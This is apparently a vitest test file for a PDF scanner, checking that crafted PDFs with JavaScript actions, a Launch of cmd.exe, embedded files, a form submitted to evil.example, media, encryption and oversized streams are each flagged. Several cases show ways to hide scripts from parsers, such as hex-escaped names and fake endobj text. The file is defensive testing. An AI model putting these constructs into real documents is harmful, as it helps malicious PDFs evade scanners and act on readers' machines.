import { describe, expect, test } from 'vitest';
import { makePdf, makeStream, pageObjects } from '../../../../tests/worlds/pdf.ts';
import { readPdf } from './objects.ts';
import { assertHarmless } from './threats.ts';
import { THREATS } from './values.ts';

/** What is found in a PDF, or that nothing is. */
async function outcomeOf(pdf: Buffer): Promise<string> {
  try {
    await assertHarmless(readPdf(pdf));
    return 'harmless';
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
}

/** Objects packed into a stream, as most PDFs have them today. */
function packed(objects: readonly string[], firstNumber: number): Buffer {
  let at = 0;
  const offsets = objects.map((object, index) => {
    const offset = `${firstNumber + index} ${at}`;
    at += object.length + 1;
    return offset;
  });
  const table = `${offsets.join(' ')} `;
  const entries = `/Type /ObjStm /N ${objects.length} /First ${table.length}`;
  return makeStream(`${table}${objects.join(' ')}`, entries);
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const FILE = makeStream('MZ', '/Type /EmbeddedFile', false);

describe('a PDF that does more than show pages is found out:', () => {
  const harmful: readonly (readonly [string, string, Buffer])[] = [
    ['a script at its opening', 'JAVASCRIPT', makePdf(pageObjects(`/OpenAction ${SCRIPT}`))],
    ['a script of a page', 'JAVASCRIPT', makePdf(pageObjects('', `/AA << /O ${SCRIPT} >>`))],
    [
      'a script by name',
      'JAVASCRIPT',
      makePdf(pageObjects('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>')),
    ],
    [
      'a script whose name is written otherwise',
      'JAVASCRIPT',
      makePdf(pageObjects('/OpenAction << /S /#4aavaScript /#4a#53 (x) >>')),
    ],
    ['a script that nothing leads to', 'JAVASCRIPT', makePdf([...pageObjects(), SCRIPT])],
    [
      'a script among packed objects',
      'JAVASCRIPT',
      makePdf([...pageObjects(), packed([SCRIPT], 9)]),
    ],
    [
      'a script behind a text that looks like the end',
      'JAVASCRIPT',
      makePdf(pageObjects(`/T (endobj \\( %) /OpenAction ${SCRIPT}`)),
    ],
    [
      'a script in a later version of the file',
      'JAVASCRIPT',
      Buffer.concat([makePdf(pageObjects()), makePdf(pageObjects(`/OpenAction ${SCRIPT}`))]),
    ],
    [
      'a program to start',
      'LAUNCH',
      makePdf(pageObjects('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    ],
    ['a file in it', 'EMBEDDED_FILE', makePdf([...pageObjects(), FILE])],
    [
      'a file pinned to a page',
      'EMBEDDED_FILE',
      makePdf(pageObjects('', '/Annots [<< /Subtype /FileAttachment >>]')),
    ],
    [
      'a form that is sent away',
      'SENDS_DATA',
      makePdf(pageObjects('/OpenAction << /S /SubmitForm /F (https://evil.example) >>')),
    ],
    ['a film', 'MEDIA', makePdf(pageObjects('', '/Annots [<< /Subtype /RichMedia >>]'))],
    ['a password', 'ENCRYPTED', makePdf(pageObjects(), '/Encrypt << /Filter /Standard >>')],
    [
      'a picture of 30,000 by 30,000 pixels',
      'TOO_LARGE_INSIDE',
      makePdf([
        ...pageObjects(),
        makeStream('', '/Subtype /Image /Width 30000 /Height 7 0 R'),
        '30000',
      ]),
    ],
    [
      'a stream packed twice',
      'TOO_LARGE_INSIDE',
      makePdf([...pageObjects(), makeStream('x', '/Filter [/FlateDecode /FlateDecode]', false)]),
    ],
  ];

  test.each(harmful)('%s', async (_, threat, pdf) => {
    expect(await outcomeOf(pdf)).toBe(threat);
  });

  test('every kind of it', () => {
    expect(new Set(harmful.map(([, threat]) => threat))).toEqual(new Set(THREATS));
  });
});

test('a PDF with pages alone is harmless, and one that breaks off within an object is none', async () => {
  expect(await outcomeOf(makePdf(pageObjects()))).toBe('harmless');
  for (const broken of ['(never', '<< /Key >>', '<< /Key', '[1 2', '<12']) {
    expect(await outcomeOf(makePdf([...pageObjects(), broken]))).toMatch(/^(no |a string)/);
  }
});
